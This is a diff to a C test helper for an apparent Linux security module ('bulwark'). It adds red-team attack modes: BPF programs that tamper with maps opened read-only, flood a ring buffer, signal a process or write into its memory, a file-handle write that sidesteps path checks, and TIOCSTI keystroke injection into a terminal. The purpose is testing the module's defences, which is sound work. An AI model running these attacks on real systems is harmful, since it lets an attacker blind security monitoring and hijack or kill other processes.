@@ -66,6 +66,20 @@
  *   bwtry bpf-load             BPF_PROG_LOAD of a two-instruction socket filter
  *   bwtry bpf-map              BPF_MAP_CREATE of a one-entry array (not a `bpf` decision)
  *
+ * Attacks by root's own BPF programs and the tty (tests/redteam/t_attack.sh):
+ *   bwtry bpf-ro-clear PIN KEY   open a pinned map read-only, then rewrite it from a
+ *                              program of our own: delete KEY (hash) or zero it (array)
+ *   bwtry bpf-ro-flood PIN SECS  fill a pinned ring buffer (opened read-only) with junk
+ *   bwtry bpf-in-proc TGID SECS kill SIG | write ADDR BYTE   a raw tracepoint program
+ *                              that signals TGID (bpf_send_signal) or writes its memory
+ *                              (bpf_probe_write_user) in its own context
+ *   bwtry handle-write MOUNTDIR PATH VALUE   name_to_handle_at PATH, drop the dentry
+ *                              cache, open_by_handle_at for writing, append VALUE
+ *   bwtry tiocsti TTY CODE     push a byte into a terminal's input (^C = 3, ^Z = 26)
+ *   bwtry target-busy [MB]     as target, but making a system call every 100 ms and
+ *                              printing "buf C" when its buffer's first byte changes;
+ *                              with MB, it first allocates and touches MB MiB
+ *
  * Failures of multi-step operations add " step=<the step that failed>".
  *
  * Output: one line "pid=<acting process> parent=<bwtry> rc=<n> errno=<NAME>".
@@ -85,6 +99,8 @@
 #include <sched.h>
 #include <linux/bpf.h>
 #include <sys/io.h>
+#include <sys/ioctl.h>
+#include <time.h>
 #include <sys/mman.h>
 #include <sys/shm.h>
 #include <sys/socket.h>
@@ -775,8 +791,331 @@ static int traceme_exec(const char *path)
 	return err != 0;
 }
 
+
+/*
+ * bwtry handle-write MOUNTDIR PATH VALUE: name PATH by a file handle, drop
+ * the dentry cache, then open the handle for writing (open_by_handle_at,
+ * relative to MOUNTDIR, PATH's filesystem) and append VALUE. On a disk
+ * filesystem the dentry comes back disconnected: no parent above it.
+ */
+static int handle_write(const char *mountdir, const char *path, const char *value)
+{
+	struct file_handle *fh = malloc(sizeof(*fh) + MAX_HANDLE_SZ);
+	int mount_id, mfd, fd, dc;
+	ssize_t n;
+
+	if (!fh)
+		return 2;
+	fh->handle_bytes = MAX_HANDLE_SZ;
+	if (name_to_handle_at(AT_FDCWD, path, fh, &mount_id, 0) < 0)
+		return report_step(-1, errno, "name_to_handle_at");
+	sync();
+	dc = open("/proc/sys/vm/drop_caches", O_WRONLY | O_CLOEXEC);
+	if (dc < 0 || write(dc, "2", 1) != 1)
+		return report_step(-1, errno, "drop_caches");
+	close(dc);
+	mfd = open(mountdir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
+	if (mfd < 0)
+		return report_step(-1, errno, "open-mountdir");
+	fd = open_by_handle_at(mfd, fh, O_WRONLY | O_APPEND | O_CLOEXEC);
+	if (fd < 0)
+		return report_step(-1, errno, "open_by_handle_at");
+	n = write(fd, value, strlen(value));
+	close(fd);
+	if (n < 0)
+		return report_step(-1, errno, "write");
+	return report(0, 0);
+}
+
+/* ---- attacks with root's own BPF programs (tests/redteam/t_attack.sh) ---- */
+
+#define I(c, d, s, o, i) ((struct bpf_insn){ .code = (c), .dst_reg = (d), .src_reg = (s), .off = (o), .imm = (i) })
+#define MOV64_IMM(d, i) I(BPF_ALU64 | BPF_MOV | BPF_K, d, 0, 0, i)
+#define MOV64_REG(d, s) I(BPF_ALU64 | BPF_MOV | BPF_X, d, s, 0, 0)
+#define ADD64_IMM(d, i) I(BPF_ALU64 | BPF_ADD | BPF_K, d, 0, 0, i)
+#define RSH64_IMM(d, i) I(BPF_ALU64 | BPF_RSH | BPF_K, d, 0, 0, i)
+#define ST_MEM(sz, d, o, i) I(BPF_ST | BPF_MEM | (sz), d, 0, o, i)
+#define JNE_IMM(d, i, o) I(BPF_JMP | BPF_JNE | BPF_K, d, 0, o, i)
+#define JEQ_IMM(d, i, o) I(BPF_JMP | BPF_JEQ | BPF_K, d, 0, o, i)
+#define CALL(f) I(BPF_JMP | BPF_CALL, 0, 0, 0, f)
+#define EXIT() I(BPF_JMP | BPF_EXIT, 0, 0, 0, 0)
+#define LD_MAP_FD(d, fd) I(BPF_LD | BPF_DW | BPF_IMM, d, BPF_PSEUDO_MAP_FD, 0, fd), I(0, 0, 0, 0, 0)
+#define LD_IMM64(d, v) I(BPF_LD | BPF_DW | BPF_IMM, d, 0, 0, (__u32)(v)), I(0, 0, 0, 0, (__u32)((__u64)(v) >> 32))
+
+static long sys_bpf(int cmd, union bpf_attr *a)
+{
+	return syscall(SYS_bpf, cmd, a, sizeof(*a));
+}
+
+static char bpf_log[65536];
+
+static int prog_load(__u32 type, const struct bpf_insn *insns, size_t n)
+{
+	union bpf_attr a;
+	int fd;
+
+	memset(&a, 0, sizeof(a));
+	a.prog_type = type;
+	a.insns = (__u64)(unsigned long)insns;
+	a.insn_cnt = n;
+	a.license = (__u64)(unsigned long)"GPL";
+	a.log_buf = (__u64)(unsigned long)bpf_log;
+	a.log_size = sizeof(bpf_log);
+	a.log_level = 1;
+	fd = sys_bpf(BPF_PROG_LOAD, &a);
+	if (fd < 0)
+		fprintf(stderr, "verifier: %.2000s\n", bpf_log);
+	return fd;
+}
+
+/* A pinned map, read-only: what bulwark's bpf_map hook lets anyone have. */
+static int map_get_rdonly(const char *pin, struct bpf_map_info *info)
+{
+	union bpf_attr a;
+	int fd;
+
+	memset(&a, 0, sizeof(a));
+	a.pathname = (__u64)(unsigned long)pin;
+	a.file_flags = BPF_F_RDONLY;
+	fd = sys_bpf(BPF_OBJ_GET, &a);
+	if (fd < 0)
+		return fd;
+	memset(info, 0, sizeof(*info));
+	memset(&a, 0, sizeof(a));
+	a.info.bpf_fd = fd;
+	a.info.info = (__u64)(unsigned long)info;
+	a.info.info_len = sizeof(*info);
+	if (sys_bpf(BPF_OBJ_GET_INFO_BY_FD, &a) < 0)
+		return -1;
+	return fd;
+}
+
+static long prog_test_run(int prog, __u32 repeat, __u32 *retval)
+{
+	static char data[64];
+	union bpf_attr a;
+	long rc;
+
+	memset(&a, 0, sizeof(a));
+	a.test.prog_fd = prog;
+	a.test.data_in = (__u64)(unsigned long)data;
+	a.test.data_size_in = sizeof(data);
+	a.test.repeat = repeat;
+	rc = sys_bpf(BPF_PROG_TEST_RUN, &a);
+	if (retval)
+		*retval = a.test.retval;
+	return rc;
+}
+
+/*
+ * bwtry bpf-ro-clear PIN KEY: open the map PIN read-only, then have a
+ * program of our own (a socket filter, run by BPF_PROG_TEST_RUN) write it
+ * through that fd: a hash map loses KEY, an array map's KEY is zeroed.
+ * Prints " result=N": the helper's return (0 = done).
+ */
+static int bpf_ro_clear(const char *pin, const char *key_s)
+{
+	struct bpf_insn p[600];
+	struct bpf_map_info info;
+	int mfd, pfd, n = 0;
+	__u32 key = strtoul(key_s, NULL, 0), ret = 0;
+
+	mfd = map_get_rdonly(pin, &info);
+	if (mfd < 0)
+		return report_step(-1, errno, "obj-get-rdonly");
+	p[n++] = ST_MEM(BPF_W, BPF_REG_10, -4, key);
+	struct bpf_insn ld[] = { LD_MAP_FD(BPF_REG_1, mfd) };
+	p[n++] = ld[0];
+	p[n++] = ld[1];
+	p[n++] = MOV64_REG(BPF_REG_2, BPF_REG_10);
+	p[n++] = ADD64_IMM(BPF_REG_2, -4);
+	if (info.type == BPF_MAP_TYPE_ARRAY) {
+		p[n++] = CALL(BPF_FUNC_map_lookup_elem);
+		p[n++] = JNE_IMM(BPF_REG_0, 0, 2);
+		p[n++] = MOV64_IMM(BPF_REG_0, 2);
+		p[n++] = EXIT();
+		for (__u32 off = 0; off + 8 <= info.value_size && n < 590; off += 8)
+			p[n++] = ST_MEM(BPF_DW, BPF_REG_0, off, 0);
+		p[n++] = MOV64_IMM(BPF_REG_0, 0);
+	} else {
+		p[n++] = CALL(BPF_FUNC_map_delete_elem);
+	}
+	p[n++] = EXIT();
+	pfd = prog_load(BPF_PROG_TYPE_SOCKET_FILTER, p, n);
+	if (pfd < 0)
+		return report_step(-1, errno, "prog-load");
+	if (prog_test_run(pfd, 1, &ret) < 0)
+		return report_step(-1, errno, "test-run");
+	printf("pid=%d parent=%d rc=%d errno=0 map=%s type=%u result=%d\n", getpid(), getppid(),
+	       (int)ret ? -1 : 0, info.name, info.type, (int)ret);
+	return ret != 0;
+}
+
+/*
+ * bwtry bpf-ro-flood PIN SECS: fill bulwark's ring buffer (PIN, opened
+ * read-only) with junk records from our own program for SECS seconds.
+ */
+static int bpf_ro_flood(const char *pin, const char *secs_s)
+{
+	struct bpf_insn p[128];
+	struct bpf_map_info info;
+	int mfd, pfd, n = 0, secs = atoi(secs_s);
+	long runs = 0;
+	time_t end;
+
+	mfd = map_get_rdonly(pin, &info);
+	if (mfd < 0)
+		return report_step(-1, errno, "obj-get-rdonly");
+	for (int off = -256; off < 0; off += 8)
+		p[n++] = ST_MEM(BPF_DW, BPF_REG_10, off, 0x41414141);
+	for (int i = 0; i < 8; i++) {
+		struct bpf_insn ld[] = { LD_MAP_FD(BPF_REG_1, mfd) };
+		p[n++] = ld[0];
+		p[n++] = ld[1];
+		p[n++] = MOV64_REG(BPF_REG_2, BPF_REG_10);
+		p[n++] = ADD64_IMM(BPF_REG_2, -256);
+		p[n++] = MOV64_IMM(BPF_REG_3, 256);
+		p[n++] = MOV64_IMM(BPF_REG_4, 0);
+		p[n++] = CALL(BPF_FUNC_ringbuf_output);
+	}
+	p[n++] = MOV64_IMM(BPF_REG_0, 0);
+	p[n++] = EXIT();
+	pfd = prog_load(BPF_PROG_TYPE_SOCKET_FILTER, p, n);
+	if (pfd < 0)
+		return report_step(-1, errno, "prog-load");
+	end = time(NULL) + secs;
+	while (time(NULL) < end) {
+		if (prog_test_run(pfd, 1000, NULL) < 0)
+			return report_step(-1, errno, "test-run");
+		runs++;
+	}
+	printf("pid=%d parent=%d rc=0 errno=0 map=%s runs=%ld\n", getpid(), getppid(), info.name, runs);
+	return 0;
+}
+
+static bool proc_gone(pid_t pid)
+{
+	char path[64], buf[512], *s;
+	FILE *f;
+
+	snprintf(path, sizeof(path), "/proc/%d/stat", pid);
+	f = fopen(path, "re");
+	if (!f)
+		return true;
+	s = fgets(buf, sizeof(buf), f);
+	fclose(f);
+	s = s ? strrchr(buf, ')') : NULL;
+	return s && (s[2] == 'Z' || s[2] == 'X');
+}
+
+/*
+ * bwtry bpf-in-proc TGID SECS kill SIG | write ADDR BYTE: a raw tracepoint
+ * program on sys_enter that, in the context of TGID (the moment it makes
+ * any system call), sends itself SIG with bpf_send_signal, or writes BYTE
+ * at ADDR in its memory with bpf_probe_write_user. Runs SECS seconds;
+ * for kill, reports " died=yes|no".
+ */
+static int bpf_in_proc(int argc, char **argv)
+{
+	pid_t tgid = atoi(argv[2]);
+	int secs = atoi(argv[3]), n = 0, pfd;
+	bool kill_it = strcmp(argv[4], "kill") == 0;
+	struct bpf_insn p[64];
+	union bpf_attr a;
+	time_t end;
+	bool died = false;
+
+	p[n++] = CALL(BPF_FUNC_get_current_pid_tgid);
+	p[n++] = RSH64_IMM(BPF_REG_0, 32);
+	p[n++] = JNE_IMM(BPF_REG_0, tgid, kill_it ? 2 : 7);
+	if (kill_it) {
+		p[n++] = MOV64_IMM(BPF_REG_1, atoi(argv[5]));
+		p[n++] = CALL(BPF_FUNC_send_signal);
+	} else {
+		struct bpf_insn ld[] = { LD_IMM64(BPF_REG_1, strtoull(argv[5], NULL, 0)) };
+
+		p[n++] = ST_MEM(BPF_DW, BPF_REG_10, -8, strtoul(argv[6], NULL, 0));
+		p[n++] = ld[0];
+		p[n++] = ld[1];
+		p[n++] = MOV64_REG(BPF_REG_2, BPF_REG_10);
+		p[n++] = ADD64_IMM(BPF_REG_2, -8);
+		p[n++] = MOV64_IMM(BPF_REG_3, 1);
+		p[n++] = CALL(BPF_FUNC_probe_write_user);
+	}
+	p[n++] = MOV64_IMM(BPF_REG_0, 0);
+	p[n++] = EXIT();
+	pfd = prog_load(BPF_PROG_TYPE_RAW_TRACEPOINT, p, n);
+	if (pfd < 0)
+		return report_step(-1, errno, "prog-load");
+	memset(&a, 0, sizeof(a));
+	a.raw_tracepoint.name = (__u64)(unsigned long)"sys_enter";
+	a.raw_tracepoint.prog_fd = pfd;
+	if (sys_bpf(BPF_RAW_TRACEPOINT_OPEN, &a) < 0)
+		return report_step(-1, errno, "attach");
+	end = time(NULL) + secs;
+	while (time(NULL) < end && !(kill_it && (died = proc_gone(tgid))))
+		usleep(100000);
+	printf("pid=%d parent=%d rc=0 errno=0 died=%s\n", getpid(), getppid(), died ? "yes" : "no");
+	return 0;
+}
+
+/* bwtry tiocsti TTY CODE: push the byte CODE into TTY's input, as if typed (^C = 3, ^Z = 26). */
+static int tiocsti(const char *tty, const char *code)
+{
+	char c = (char)strtol(code, NULL, 0);
+	int fd = open(tty, O_RDWR | O_NOCTTY | O_CLOEXEC);
+
+	if (fd < 0)
+		return report_step(-1, errno, "open");
+	return report(ioctl(fd, TIOCSTI, &c), errno);
+}
+
+/*
+ * bwtry target-busy: as target, but awake: a system call every 100 ms, as
+ * any working agent makes; prints "buf C" when target_buf[0] changes.
+ */
+static __attribute__((noreturn)) int be_busy_target(long mb)
+{
+	int fd = open("/dev/null", O_RDONLY);
+	char last = 'B';
+
+	if (mb > 0) {
+		char *big = malloc(mb << 20);
+
+		for (long i = 0; big && i < mb << 20; i += 4096)
+			big[i] = 1;
+	}
+
+	memset(target_buf, 'B', sizeof(target_buf));
+	setvbuf(stdout, NULL, _IONBF, 0);
+	signal(SIGHUP, on_signal);
+	signal(SIGUSR1, on_signal);
+	printf("target pid=%d addr=%p fd=%d\n", getpid(), (void *)target_buf, fd);
+	for (;;) {
+		usleep(100000);
+		if (*(volatile char *)target_buf != last) {
+			last = target_buf[0];
+			printf("buf %c\n", last);
+		}
+	}
+}
+
 int main(int argc, char **argv)
 {
+	if (argc == 4 && strcmp(argv[1], "bpf-ro-clear") == 0)
+		return bpf_ro_clear(argv[2], argv[3]);
+	if (argc == 4 && strcmp(argv[1], "bpf-ro-flood") == 0)
+		return bpf_ro_flood(argv[2], argv[3]);
+	if ((argc == 6 && strcmp(argv[4], "kill") == 0) || (argc == 7 && strcmp(argv[4], "write") == 0))
+		if (strcmp(argv[1], "bpf-in-proc") == 0)
+			return bpf_in_proc(argc, argv);
+	if (argc == 5 && strcmp(argv[1], "handle-write") == 0)
+		return handle_write(argv[2], argv[3], argv[4]);
+	if (argc == 4 && strcmp(argv[1], "tiocsti") == 0)
+		return tiocsti(argv[2], argv[3]);
+	if ((argc == 2 || argc == 3) && strcmp(argv[1], "target-busy") == 0)
+		return be_busy_target(argc == 3 ? atol(argv[2]) : 0);
+
 	if (argc == 3 && strcmp(argv[1], "traceme") == 0)
 		return traceme_exec(argv[2]);
 	/* The call first, then errno: argument evaluation order is unspecified. */
